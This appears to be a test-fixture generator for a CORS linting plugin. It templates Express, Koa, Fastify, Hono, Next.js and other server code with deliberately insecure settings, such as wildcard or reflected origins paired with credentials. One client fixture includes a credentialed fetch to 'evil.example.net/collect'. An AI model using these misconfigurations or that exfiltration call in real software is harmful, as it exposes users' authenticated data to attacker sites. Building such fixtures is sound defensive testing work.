// CORS-heavy source files generated from templates: every header API and
// middleware of docs/cors-semantics.md (#libraries, #hand-written-headers)
// combined with good and bad values, so that the sweep exercises the plugin's
// fixes and suggestions, not only its bail-out.
// The output is deterministic.

const ORIGINS = [
  { id: 'star', code: () => `'*'` },
  { id: 'fixed', code: () => `'https://app.example.com'` },
  { id: 'echo', code: (f) => f.originRead },
  { id: 'null', code: () => `'null'` },
  { id: 'const', code: () => `ORIGIN`, prelude: `const ORIGIN = '*';\n` },
  { id: 'template', code: () => '`*`' },
  { id: 'checked', code: () => `origin`, checked: true },
];
const CREDENTIALS = [
  { id: 'true', code: `'true'` },
  { id: 'True', code: `'True'` },
  { id: 'TRUE', code: `"TRUE"` },
  { id: 'bool', code: `true` },
  { id: 'false', code: `'false'` },
  { id: 'one', code: `'1'` },
  { id: 'none', code: null },
];
const EXTRAS = [
  { id: 'plain' },
  { id: 'vary', vary: true },
  { id: 'star-headers', allowHeaders: `'*'` },
  { id: 'list-headers', allowHeaders: `'Content-Type, *'`, methods: `'GET, POST, *'` },
  { id: 'expose', expose: `'*'`, vary: true },
];

/** Frameworks with a "set one header" statement and a way to read the request's Origin. */
const CALL_FRAMEWORKS = [
  {
    id: 'express-setHeader',
    ext: 'js',
    originRead: `req.headers.origin`,
    set: (n, v) => `res.setHeader('${n}', ${v});`,
    wrap: (body) => `const express = require('express');\nconst app = express();\n\napp.use((req, res, next) => {\n${body}  next();\n});\n\napp.get('/api/me', (req, res) => {\n  res.json({ ok: true });\n});\n\nmodule.exports = app;\n`,
  },
  {
    id: 'express-header',
    ext: 'ts',
    originRead: `req.get('origin') ?? ''`,
    set: (n, v) => `res.header("${n}", ${v});`,
    wrap: (body) => `import express, { type Request, type Response, type NextFunction } from 'express';\n\nconst router = express.Router();\n\nrouter.use(function cors(req: Request, res: Response, next: NextFunction) {\n${body}  next();\n});\n\nexport default router;\n`,
  },
  {
    id: 'koa',
    ext: 'js',
    originRead: `ctx.get('Origin')`,
    set: (n, v) => `ctx.set('${n}', ${v});`,
    wrap: (body) => `import Koa from 'koa';\n\nconst app = new Koa();\napp.use(async (ctx, next) => {\n${body}  await next();\n});\n\nexport default app;\n`,
  },
  {
    id: 'fastify',
    ext: 'mjs',
    originRead: `request.headers.origin`,
    set: (n, v) => `reply.header('${n}', ${v});`,
    wrap: (body) => `import Fastify from 'fastify';\n\nconst fastify = Fastify();\nfastify.addHook('onRequest', async (request, reply) => {\n${body}});\n\nexport default fastify;\n`,
  },
  {
    id: 'hono',
    ext: 'ts',
    originRead: `c.req.header('origin') ?? ''`,
    set: (n, v) => `c.header('${n}', ${v});`,
    wrap: (body) => `import { Hono } from 'hono';\n\nconst app = new Hono();\napp.use('*', async (c, next) => {\n${body}  await next();\n});\napp.get('/api', (c) => c.json({ ok: true }));\n\nexport default app;\n`,
  },
  {
    id: 'fetch-headers',
    ext: 'ts',
    originRead: `request.headers.get('origin') ?? ''`,
    set: (n, v) => `headers.set('${n}', ${v});`,
    wrap: (body) => `export default {\n  async fetch(request: Request): Promise<Response> {\n    const headers = new Headers({ 'Content-Type': 'application/json' });\n${indent(body, 2)}    return new Response(JSON.stringify({ ok: true }), { headers });\n  },\n};\n`,
  },
  {
    id: 'h3',
    ext: 'ts',
    originRead: `getRequestHeader(event, 'origin') ?? ''`,
    set: (n, v) => `setResponseHeader(event, '${n}', ${v});`,
    wrap: (body) => `import { defineEventHandler, getRequestHeader, setResponseHeader } from 'h3';\n\nexport default defineEventHandler((event) => {\n${body}  return { ok: true };\n});\n`,
  },
  {
    id: 'node-preflight',
    ext: 'cjs',
    originRead: `req.headers['origin']`,
    set: (n, v) => `res.setHeader('${n}', ${v});`,
    wrap: (body) => `const http = require('http');\n\nhttp\n  .createServer((req, res) => {\n    if (req.method === 'OPTIONS') {\n${indent(body, 4)}      res.writeHead(204);\n      res.end();\n      return;\n    }\n    res.setHeader('Access-Control-Allow-Origin', 'https://app.example.com');\n    res.setHeader('Access-Control-Allow-Credentials', 'true');\n    res.end('ok');\n  })\n  .listen(8080);\n`,
  },
];

/** Frameworks that write a headers object. */
const OBJECT_FRAMEWORKS = [
  {
    id: 'node-writeHead',
    ext: 'js',
    originRead: `req.headers.origin`,
    wrap: (props) => `const http = require('node:http');\n\nhttp.createServer((req, res) => {\n  res.writeHead(200, {\n${props('    ')}  });\n  res.end('{}');\n});\n`,
  },
  {
    id: 'response-json',
    ext: 'ts',
    originRead: `request.headers.get('Origin') ?? ''`,
    wrap: (props) => `export async function GET(request: Request): Promise<Response> {\n  return Response.json({ ok: true }, {\n    headers: {\n${props('      ')}    },\n  });\n}\n`,
  },
  {
    id: 'serverless',
    ext: 'js',
    originRead: `event.headers.origin`,
    wrap: (props) => `exports.handler = async (event) => {\n  return {\n    statusCode: 200,\n    headers: {\n${props('      ')}    },\n    body: JSON.stringify({ ok: true }),\n  };\n};\n`,
  },
  {
    id: 'cors-headers-const',
    ext: 'ts',
    originRead: null,
    wrap: (props) => `export const corsHeaders = {\n${props('  ')}};\n\nDeno.serve((req: Request) => {\n  if (req.method === 'OPTIONS') {\n    return new Response('ok', { headers: corsHeaders });\n  }\n  return new Response(JSON.stringify({ ok: true }), { headers: { ...corsHeaders, 'Content-Type': 'application/json' } });\n});\n`,
  },
  {
    id: 'express-set-object',
    ext: 'js',
    originRead: `req.header('Origin')`,
    wrap: (props) => `module.exports = function cors(req, res, next) {\n  res.set({\n${props('    ')}  });\n  next();\n};\n`,
  },
  {
    id: 'next-config',
    ext: 'mjs',
    originRead: null,
    entries: true,
    wrap: (entries) => `/** @type {import('next').NextConfig} */\nconst nextConfig = {\n  async headers() {\n    return [\n      {\n        source: '/api/:path*',\n        headers: [\n${entries('          ')}        ],\n      },\n    ];\n  },\n};\n\nexport default nextConfig;\n`,
  },
];

/** CORS middleware options objects (the rules for them land separately). */
const MIDDLEWARE = [
  { id: 'cors', ext: 'js', wrap: (o) => `const express = require('express');\nconst cors = require('cors');\n\nconst app = express();\napp.use(cors(${o}));\nmodule.exports = app;\n` },
  { id: 'koa-cors', ext: 'js', wrap: (o) => `import Koa from 'koa';\nimport cors from '@koa/cors';\n\nconst app = new Koa();\napp.use(cors(${o}));\nexport default app;\n` },
  { id: 'fastify-cors', ext: 'mjs', wrap: (o) => `import Fastify from 'fastify';\nimport fastifyCors from '@fastify/cors';\n\nconst app = Fastify();\nawait app.register(fastifyCors, ${o});\nexport default app;\n` },
  { id: 'hono-cors', ext: 'ts', wrap: (o) => `import { Hono } from 'hono';\nimport { cors } from 'hono/cors';\n\nconst app = new Hono();\napp.use('/api/*', cors(${o}));\nexport default app;\n` },
  { id: 'nest', ext: 'ts', wrap: (o) => `import { NestFactory } from '@nestjs/core';\nimport { AppModule } from './app.module';\n\nasync function bootstrap() {\n  const app = await NestFactory.create(AppModule);\n  app.enableCors(${o});\n  await app.listen(3000);\n}\nvoid bootstrap();\n` },
  { id: 'socket-io', ext: 'js', wrap: (o) => `const { createServer } = require('http');\nconst { Server } = require('socket.io');\n\nconst httpServer = createServer();\nconst io = new Server(httpServer, { cors: ${o} });\nio.on('connection', () => {});\nhttpServer.listen(3000);\n` },
  { id: 'h3-cors', ext: 'ts', wrap: (o) => `import { defineEventHandler, handleCors } from 'h3';\n\nexport default defineEventHandler((event) => {\n  if (handleCors(event, ${o})) return;\n  return { ok: true };\n});\n` },
];
const MIDDLEWARE_OPTIONS = [
  `{ origin: true, credentials: true }`,
  `{ origin: '*', credentials: true }`,
  `{ credentials: true }`,
  `{ origin: /example\\.com$/, credentials: true }`,
  `{ origin: ['https://app.example.com', 'null'], credentials: true }`,
  `{ origin: (origin, callback) => callback(null, origin), credentials: true }`,
  `{ origin: 'https://app.example.com', credentials: true }`,
  `{ origin: process.env.CORS_ORIGIN, credentials: true }`,
  `{ origin: '*' }`,
];

/** Client requests (the client rules land separately). */
const CLIENTS = [
  `export const me = () => fetch('https://api.example.com/me');\nexport const prefs = () => fetch('https://api.example.com/prefs', { credentials: 'include' });\n`,
  `import axios from 'axios';\n\nexport const api = axios.create({ baseURL: 'https://api.example.com' });\nexport const load = () => api.get('/items');\nexport const save = (body) => axios.post('https://api.example.com/items', body, { withCredentials: true });\n`,
  `const API = 'https://api.example.com';\n\nexport async function load() {\n  const res = await fetch(\`\${API}/session\`, { method: 'GET' });\n  return res.json();\n}\n\nexport const stream = () => new EventSource(\`\${API}/events\`, { withCredentials: true });\n`,
  `export function legacy(url) {\n  const xhr = new XMLHttpRequest();\n  xhr.open('GET', url);\n  xhr.withCredentials = true;\n  xhr.send();\n  return fetch('https://evil.example.net/collect', { credentials: 'include' });\n}\n`,
];

const SETTINGS = { allowedOrigins: ['https://app.example.com'], credentialedApis: ['https://api.example.com'] };

function indent(text, spaces) {
  const pad = ' '.repeat(spaces);
  return text
    .split('\n')
    .map((line) => (line ? pad + line : line))
    .join('\n');
}

function headerList(origin, credentials, extra) {
  const list = [['Access-Control-Allow-Origin', origin]];
  if (credentials.code !== null) list.push(['Access-Control-Allow-Credentials', credentials.code]);
  if (extra.allowHeaders) list.push(['Access-Control-Allow-Headers', extra.allowHeaders]);
  if (extra.methods) list.push(['Access-Control-Allow-Methods', extra.methods]);
  if (extra.expose) list.push(['Access-Control-Expose-Headers', extra.expose]);
  if (extra.vary) list.push(['Vary', `'Origin'`]);
  return list;
}

function* combinations() {
  let i = 0;
  for (const origin of ORIGINS) {
    for (const credentials of CREDENTIALS) {
      for (const extra of EXTRAS) {
        // A stride keeps every value in play without the full product.
        if (i++ % 3 === 0) yield { origin, credentials, extra };
      }
    }
  }
}

/**
 * Generated files: `{ name, text, settings? }`, with `name` ending in the
 * file's extension. Half of the header files carry `settings.cors`, so that
 * settings-driven fixes run too.
 */
export function syntheticCorsFiles() {
  const files = [];
  let n = 0;
  for (const combo of combinations()) {
    const { origin, credentials, extra } = combo;
    for (const fw of CALL_FRAMEWORKS) {
      const originCode = origin.code(fw);
      let body = headerList(originCode, credentials, extra)
        .map(([name, value]) => `  ${fw.set(name, value)}\n`)
        .join('');
      if (origin.checked) {
        body = `  const origin = ${fw.originRead};\n  if (ALLOWED.includes(origin)) {\n${indent(body, 2)}  }\n`;
      }
      const prelude = (origin.prelude ?? '') + (origin.checked ? `const ALLOWED = ['https://app.example.com', 'https://admin.example.com'];\n` : '');
      const text = prelude + fw.wrap(body);
      files.push({ name: `synthetic/${fw.id}-${origin.id}-${credentials.id}-${extra.id}.${fw.ext}`, text, ...(n++ % 2 ? { settings: SETTINGS } : {}) });
    }
    for (const fw of OBJECT_FRAMEWORKS) {
      if (origin.checked || (origin.id === 'echo' && !fw.originRead)) continue;
      const originCode = origin.code(fw);
      const list = headerList(originCode, credentials, extra);
      const props = fw.entries
        ? (pad) => list.map(([name, value]) => `${pad}{ key: '${name}', value: ${value} },\n`).join('')
        : (pad) => list.map(([name, value]) => `${pad}'${name}': ${value},\n`).join('');
      const text = (origin.prelude ?? '') + fw.wrap(props);
      files.push({ name: `synthetic/${fw.id}-${origin.id}-${credentials.id}-${extra.id}.${fw.ext}`, text, ...(n++ % 2 ? { settings: SETTINGS } : {}) });
    }
  }
  MIDDLEWARE.forEach((mw) => {
    MIDDLEWARE_OPTIONS.forEach((options, i) => {
      files.push({ name: `synthetic/${mw.id}-${i}.${mw.ext}`, text: mw.wrap(options), ...(i % 2 ? { settings: SETTINGS } : {}) });
    });
  });
  CLIENTS.forEach((text, i) => {
    files.push({ name: `synthetic/client-${i}.js`, text, settings: SETTINGS });
    files.push({ name: `synthetic/client-${i}-nosettings.js`, text });
  });
  return files;
}
